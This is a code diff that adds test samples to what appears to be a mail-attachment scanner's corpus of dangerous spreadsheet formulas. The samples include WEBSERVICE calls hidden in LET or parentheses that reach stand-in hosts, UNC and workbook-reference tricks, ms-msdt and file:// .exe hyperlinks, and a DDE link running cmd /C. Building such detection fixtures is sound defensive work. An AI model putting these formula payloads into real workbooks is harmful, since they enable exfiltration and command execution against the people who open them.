@@ -240,6 +240,10 @@ def samples():
             ("file", 'HYPERLINK("file:///c:/{t}.exe","開く")'), ("unc", 'HYPERLINK("\\\\{t}\\share\\a","開く")'), ("concatenated", 'HYPERLINK("http://{t}.example/"&A1,"開く")'), ("search-ms", 'HYPERLINK("search-ms:query={t}","開く")'),
             ("ms-msdt", 'HYPERLINK("ms-msdt:/id {t}","開く")'), ("other-book", 'HYPERLINK("[{t}.xlsx]Sheet1!A1","開く")')], 50):
         add(f"hyperlink-formula-{case}", formula(text.replace("{t}", token(n)), "開く"), f"HYPERLINK() to what a mail may not open: {case}.", "hyperlinks")
+    for n, (case, text) in enumerate([
+            ("as-value", '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http://{t}.example/"))'), ("in-brackets", '(WEBSERVICE)("http://{t}.example/")'),
+            ("range-of-books", "'\\\\{t}\\s\\[a.xlsx]X':'Sheet1'!A1"), ("blank-behind-book", "[{t}.xlsx] Sheet1!A1"), ("moniker", 'HYPERLINK("http://a/!x-usc:http://{t}")')], 960):
+        add(f"formula-{case}", formula(text.replace("{t}", token(n))), f"A formula that reaches outside by a way round: {case}.", "active formulas")
     add("external-book", link_part(f'<externalBook r:id="rId1"><sheetNames><sheetName val="{token(60)}"/></sheetNames></externalBook>', 60, "[1]Sheet1!A1*2"), "A formula that reads another workbook.", "OLE/DDE links")
     add("dde-link-part", link_part(f'<ddeLink ddeService="cmd" ddeTopic="/C {token(61)}"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>', 61, "[1]!A0"), "A DDE link in a part of its own.", "OLE/DDE links")
     add("ole-link-part", link_part(f'<oleLink r:id="rId1" progId="{token(62)}"><oleItems><oleItem name="x"/></oleItems></oleLink>', 62), "An OLE link to a file on a server.", "OLE/DDE links")
